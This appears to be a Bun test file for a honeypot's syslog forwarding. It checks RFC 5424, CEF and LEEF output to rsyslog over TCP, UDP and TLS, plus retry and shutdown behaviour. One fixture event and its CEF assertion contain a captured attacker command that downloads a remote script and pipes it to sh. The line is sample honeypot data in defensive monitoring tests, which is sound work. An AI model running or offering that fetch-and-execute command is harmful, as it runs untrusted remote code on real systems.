import { describe, expect, test } from "bun:test";
import { readFileSync } from "node:fs";
import { startTestCore, tempDir } from "../helpers";
import { makeCertificates } from "../helpers/tls";
import { failedAtLeast, numbered, outputStatus, sendEvents, waitFor } from "../helpers/outputs";
import { Rsyslog } from "../helpers/rsyslog";

const FAST_RETRY = { min_backoff_ms: 20, max_backoff_ms: 100 };

describe("syslog output against a real rsyslogd", () => {
  test("TCP: rsyslog parses each RFC 5424 message; while it is down nothing is lost, and after it is back each event arrives once", async () => {
    using dir = tempDir();
    await using rsyslog = await new Rsyslog(dir.path).start();
    await using core = await startTestCore({
      outputs: [{ name: "siem", type: "syslog", host: "127.0.0.1", port: rsyslog.tcpPort, protocol: "tcp", format: "json", hostname: "core-1", batch_size: 4, retry: FAST_RETRY }],
    });
    const seqs = () => rsyslog.lines().map((l) => JSON.parse(l.msg).data.seq);

    await sendEvents(core, numbered(1, 5, { username: "root", password: "123456" }));
    await waitFor(() => seqs().length >= 5, "5 messages in rsyslog's file");
    await waitFor(async () => (await outputStatus(core, "siem")).lag === 0, "the batches confirmed");
    const first = rsyslog.lines()[0]!;
    // local0 (16) * 8 + informational (6)
    expect({ ...first, msg: JSON.parse(first.msg) }).toMatchObject({
      pri: "134",
      hostname: "core-1",
      app: "honeybee",
      procid: "ssh-01",
      msgid: "cowrie.login.failed",
      msg: { event_type: "cowrie.login.failed", pot_id: "ssh-01", src_ip: "203.0.113.7", data: { seq: 1, username: "root", password: "123456" } },
    });
    expect(first.sd).toMatch(/^\[honeybee@32473 event_id="\d+" pot_id="ssh-01" pot_type="cowrie" src_ip="203\.0\.113\.7"\]$/);

    await rsyslog.stop();
    await sendEvents(core, numbered(6, 10));
    await failedAtLeast(core, "siem", 2);
    await rsyslog.start();
    await waitFor(() => seqs().length >= 15, "the 10 events sent while rsyslog was down");
    await waitFor(async () => (await outputStatus(core, "siem")).lag === 0, "lag 0");
    expect(seqs()).toEqual(Array.from({ length: 15 }, (_, i) => i + 1));
  });

  test("UDP with CEF and LEEF payloads", async () => {
    using dir = tempDir();
    await using rsyslog = await new Rsyslog(dir.path).start();
    await using core = await startTestCore({
      outputs: [
        { name: "cef", type: "syslog", host: "127.0.0.1", port: rsyslog.udpPort, protocol: "udp", format: "cef", event_types: ["cowrie.command.*"] },
        { name: "leef", type: "syslog", host: "127.0.0.1", port: rsyslog.tcpPort, protocol: "tcp", format: "leef", event_types: ["cowrie.command.*"] },
      ],
    });
    await sendEvents(core, [{ eventid: "cowrie.command.input", input: "wget http://198.51.100.9/x.sh | sh", src_port: 40022 }]);
    const lines = await waitFor(() => (rsyslog.lines().length >= 2 ? rsyslog.lines() : null), "a CEF and a LEEF message");
    const cef = lines.find((l) => l.msg.startsWith("CEF:"))!;
    const leef = lines.find((l) => l.msg.startsWith("LEEF:"))!;
    expect(cef.msg).toMatch(/^CEF:0\|HoneyBee\|HoneyBee Core\|[^|]+\|cowrie\.command\.input\|cowrie\.command\.input\|4\|rt=\d+ src=203\.0\.113\.7 spt=40022 /);
    expect(cef.msg).toContain("cs4Label=command cs4=wget http://198.51.100.9/x.sh | sh");
    // rsyslog shows the LEEF tab separators as #011 (its control-character escape).
    expect(leef.msg.replace(/#011/g, "\t")).toMatch(/^LEEF:2\.0\|HoneyBee\|HoneyBee Core\|[^|]+\|cowrie\.command\.input\|x09\|devTime=\d+\tdevTimeFormat=epoch\tcat=cowrie\.command\.input\tsev=4\tsrc=203\.0\.113\.7\tsrcPort=40022\t/);
  });
});

test("TLS: the receiver's certificate is checked against tls_ca; frames are octet-counted", async () => {
  using dir = tempDir();
  const certs = makeCertificates(dir.path);
  let text = "";
  const server = Bun.listen({
    hostname: "127.0.0.1",
    port: 0,
    tls: { cert: readFileSync(certs.cert, "utf8"), key: readFileSync(certs.key, "utf8") },
    socket: { data: (_s, chunk) => void (text += chunk.toString()) },
  });
  try {
    await using core = await startTestCore({
      outputs: [
        { name: "tls", type: "syslog", host: "127.0.0.1", port: server.port, protocol: "tls", tls_ca: certs.ca },
        // Without the CA the system's roots do not know this certificate: refused, retried.
        { name: "untrusted", type: "syslog", host: "127.0.0.1", port: server.port, protocol: "tls", retry: { min_backoff_ms: 20, max_backoff_ms: 50 } },
      ],
    });
    await sendEvents(core, numbered(1, 3));
    const frames = await waitFor(() => {
      const out: string[] = [];
      let rest = text;
      for (let m = /^(\d+) /.exec(rest); m; m = /^(\d+) /.exec(rest)) {
        const body = Buffer.from(rest.slice(m[0].length)).subarray(0, Number(m[1])).toString();
        out.push(body);
        rest = rest.slice(m[0].length + body.length);
      }
      return out.length >= 3 ? out : null;
    }, "3 frames over TLS");
    expect(frames.map((f) => JSON.parse(f.slice(f.indexOf("] ") + 2)).data.seq)).toEqual([1, 2, 3]);
    await failedAtLeast(core, "untrusted", 1);
    expect((await outputStatus(core, "untrusted")).last_error).toMatch(/certificate/i);
  } finally {
    server.stop(true);
  }
});

test("a delivery stuck connecting does not hold up Core's stop", async () => {
  // Accepts connections and never answers: a TLS handshake to it waits for the connect timeout (10 s).
  const silent = Bun.listen({ hostname: "127.0.0.1", port: 0, socket: { data() {} } });
  try {
    const core = await startTestCore({ outputs: [{ name: "stuck", type: "syslog", host: "127.0.0.1", port: silent.port, protocol: "tls" }] });
    await sendEvents(core, numbered(1, 1));
    await waitFor(async () => (await outputStatus(core, "stuck")).state === "delivering", "the output connecting");
    const started = performance.now();
    await core.stop();
    expect(performance.now() - started).toBeLessThan(5000);
  } finally {
    silent.stop(true);
  }
});
